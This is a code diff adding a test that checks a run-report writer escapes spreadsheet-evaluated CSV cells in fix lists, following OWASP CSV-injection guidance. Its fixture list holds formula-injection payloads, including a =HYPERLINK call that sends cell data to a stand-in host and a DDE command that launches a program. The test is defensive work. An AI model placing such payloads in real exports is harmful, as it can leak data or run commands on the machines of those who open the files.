@@ -158,4 +158,29 @@ describe('the run report written from the ledger (dynalite)', () => {
     expect(store.objects.get(keys.html)?.contentType).to.match(/^text\/html/);
     expect(store.text(keys.html)).to.include('fixlists/fp_acme_north.csv');
   });
+
+  it('escapes every fix-list cell a spreadsheet would evaluate (starting with = + - @ tab or CR, OWASP): a legacy =HYPERLINK(...) is text', async () => {
+    await runs.startRun({
+      customer: 'acme',
+      runId: 'run-f',
+      startedAt: '2026-01-02T00:00:00.000Z',
+      status: 'RUNNING',
+      options: {},
+      databases: ['fp_acme_west'],
+    });
+    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"fix me")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    const refs = hostile.map((_, index) => `fp_acme_west:addresses:${index + 1}`);
+    await ledger.markQueued(
+      'run-f',
+      refs.map((externalRef) => ({ key: key(externalRef), sourceChecksum: 'c' })),
+    );
+    for (const [index, value] of hostile.entries())
+      await ledger.recordOutcome(key(refs[index]!), 'run-f', { status: 'failed', code: 'unmapped_status', field: 'status', value, message: value });
+    await runs.updateRun('acme', 'run-f', { status: 'SUCCEEDED', finishedAt: '2026-01-02T00:01:00.000Z' });
+    const store = new MemoryReportStore();
+    const { keys } = await new RunReportWriter(ledger, runs, store).write('acme', 'run-f');
+    const rows = parse(store.text(keys.fixLists[0]!), { columns: true }) as Record<string, string>[];
+    expect(rows.map((row) => row.value)).to.deep.equal(hostile.map((value) => `'${value}`));
+    expect(rows.map((row) => row.message)).to.deep.equal(hostile.map((value) => `'${value}`));
+  });
 });
